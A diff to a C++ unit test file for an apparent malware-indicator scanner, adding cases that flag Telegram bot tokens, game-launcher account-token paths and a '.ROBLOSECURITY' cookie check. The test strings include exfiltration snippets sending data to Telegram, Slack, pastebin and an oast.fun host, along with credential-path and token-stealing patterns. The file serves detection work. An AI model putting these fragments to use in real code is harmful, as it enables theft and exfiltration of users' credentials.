@@ -57,6 +57,11 @@ TEST(IndicatorsTest, ExfiltrationChannels) {
   ExpectIndicator("urlopen('https://api.telegram.org/bot123:AA/sendDocument')",
                   "indicator-webhook");
   ExpectIndicator("post('https://hooks.slack.com/services/T0/B0/xx')", "indicator-webhook");
+  // A bot token written out (a client library's bot, in the attacker's hands).
+  ExpectIndicator("bot = telebot.TeleBot('1234567890:AAE0123456789abcdefghijklmnopqrstuv')",
+                  "indicator-webhook");
+  ExpectNoIndicator("bot = telebot.TeleBot(os.environ['TOKEN'])");
+  ExpectNoIndicator("ratio = '1234567890:AAE0123'");
   ExpectIndicator("get('https://pastebin.com/raw/abcd')", "indicator-paste");
   ExpectIndicator("requests.get('http://x.oast.fun/' + data)", "indicator-tunnel");
   ExpectIndicator("host = 'abc123.ngrok.io'", "indicator-tunnel");
@@ -103,6 +108,13 @@ TEST(IndicatorsTest, SecretsAndWallets) {
   ExpectIndicator("os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')",
                   "indicator-sensitive-path");
   ExpectNoIndicator("json.load(open('accounts.json'))");
+  // Game launchers' account token stores.
+  ExpectIndicator("os.path.join(home, 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')",
+                  "indicator-sensitive-path");
+  ExpectIndicator("os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')",
+                  "indicator-sensitive-path");
+  ExpectNoIndicator("accounts = load('my_accounts.json')");
+  ExpectIndicator("if name == '.ROBLOSECURITY':", "indicator-credential-theft");
   ExpectIndicator("re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', t)",
                   "indicator-credential-theft");
   ExpectIndicator("token = os.environ['GITHUB_TOKEN']", "indicator-secret-env");
